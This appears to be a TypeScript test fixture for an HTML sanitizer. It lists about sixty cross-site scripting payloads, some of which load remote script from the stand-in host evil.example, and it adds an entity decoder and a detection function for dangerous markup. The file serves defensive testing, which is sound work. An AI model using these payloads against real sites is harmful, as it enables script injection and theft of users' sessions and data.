/**
 * Known XSS payloads (OWASP filter-evasion cheat sheet, PortSwigger's XSS cheat sheet, html5sec):
 * script tags, event handlers, javascript:/data:/vbscript: links with encodings and case tricks,
 * svg and math, style, frames and objects, meta refresh, srcdoc, formaction, template and
 * mutation tricks. The builders' tests send each through both publish endpoints.
 */
export const XSS_PAYLOADS: ReadonlyArray<string> = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
  "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script/xss src=\"https://evil.example/x.js\"></script>",
  "<<script>alert(1);//<</script>",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<img src=`javascript:alert(1)`>",
  "<img \"\"\"><script>alert(1)</script>\">",
  "<img src=x oNeRrOr=alert(1)//",
  "<img/src/onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<p onmouseover=\"alert(1)\">hover</p>",
  "<div style=\"background:url(javascript:alert(1))\">styled</div>",
  "<span style=\"width: expression(alert(1))\">ie</span>",
  "<a href=\"javascript:alert(1)\">link 1</a>",
  "<a href=\"JaVaScRiPt:alert(1)\">link 2</a>",
  "<a href=\" javascript:alert(1)\">link 3</a>",
  "<a href=\"jav&#x09;ascript:alert(1)\">link 4</a>",
  "<a href=\"jav&#x0A;ascript:alert(1)\">link 5</a>",
  "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">link 6</a>",
  "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">link 7</a>",
  "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">link 8</a>",
  "<a href=\"javascript&colon;alert(1)\">link 9</a>",
  "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">link 10</a>",
  "<a href=\"DATA:text/html,<script>alert(1)</script>\">link 11</a>",
  "<a href=\"vbscript:msgbox(1)\">link 12</a>",
  "<a href=\"VbScRiPt:msgbox(1)\">link 13</a>",
  "<a href=\"//evil.example/\">protocol relative</a>",
  "<a href=\"https://ok.example/\" onclick=\"alert(1)\">link 14</a>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">svg link</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<math href=\"javascript:alert(1)\">math link</math>",
  "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
  "<link rel=stylesheet href=\"javascript:alert(1)\">",
  "<iframe src=\"javascript:alert(1)\"></iframe>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<object data=\"javascript:alert(1)\"></object>",
  "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
  "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
  "<form><button formaction=\"javascript:alert(1)\">send</button></form>",
  "<form action=\"javascript:alert(1)\"><input type=submit></form>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=\"alert(1)\"></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>moving</marquee>",
  "<base href=\"javascript:alert(1)//\">",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<table background=\"javascript:alert(1)\"><tr><td>cell</td></tr></table>",
  "<div id=\"x\" onpointerenter=alert(1)>pointer</div>",
  "<a href=\"https://ok.example/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</a>",
  "<xss onafterscriptexecute=alert(1)><script>1</script>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "\"><script>alert(document.domain)</script>",
  "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
];

/**
 * Decodes HTML character references once, as a browser reads an attribute or text: named ones
 * that matter here, decimal and hexadecimal, with or without the closing semicolon. Once only:
 * "&amp;#106;" is the literal text "&#106;" to a browser, not a "j".
 */
export function decodeEntities(html: string): string {
  const named: Record<string, string> = { colon: ":", tab: "\t", newline: "\n", lt: "<", gt: ">", quot: "\"", apos: "'", amp: "&", nbsp: " " };
  return html.replace(/&(?:#x([0-9a-f]+);?|#(\d+);?|([a-z]+);)/gi, (m, hex: string | undefined, dec: string | undefined, name: string | undefined) => {
    if (hex !== undefined) return String.fromCodePoint(Math.min(Number.parseInt(hex, 16), 0x10ffff));
    if (dec !== undefined) return String.fromCodePoint(Math.min(Number(dec), 0x10ffff));
    return named[name!.toLowerCase()] ?? m;
  });
}

/**
 * What must never be in stored or served HTML: a script tag, an event-handler attribute, a
 * javascript:/vbscript:/data: scheme (white space and control characters removed, as browsers
 * ignore them inside a scheme), a style attribute or tag, a frame, object, embed, form, meta or base.
 * Judged after entity decoding. Answers the first thing found, or null.
 */
export function dangerIn(html: string): string | null {
  const decoded = decodeEntities(html);
  const squeezed = decoded.replace(/[\u0000-\u0020]+/g, "").toLowerCase();
  const checks: Array<[string, RegExp, string]> = [
    ["<script", /<script/i, decoded],
    ["an on...= attribute", /<[^>]*[\s/"']on[a-z]+\s*=/i, decoded],
    ["javascript:", /javascript:/, squeezed],
    ["vbscript:", /vbscript:/, squeezed],
    ["a data: URL", /(href|src|data|action)=["']?data:/, squeezed],
    ["a style", /<style|style=/i, decoded],
    ["a frame, object, embed, form, meta, base, svg or math", /<(iframe|frame|object|embed|form|meta|base|link|svg|math|button|input)\b/i, decoded],
    ["srcdoc or formaction", /srcdoc|formaction/i, decoded],
  ];
  for (const [what, pattern, text] of checks) if (pattern.test(text)) return what;
  return null;
}
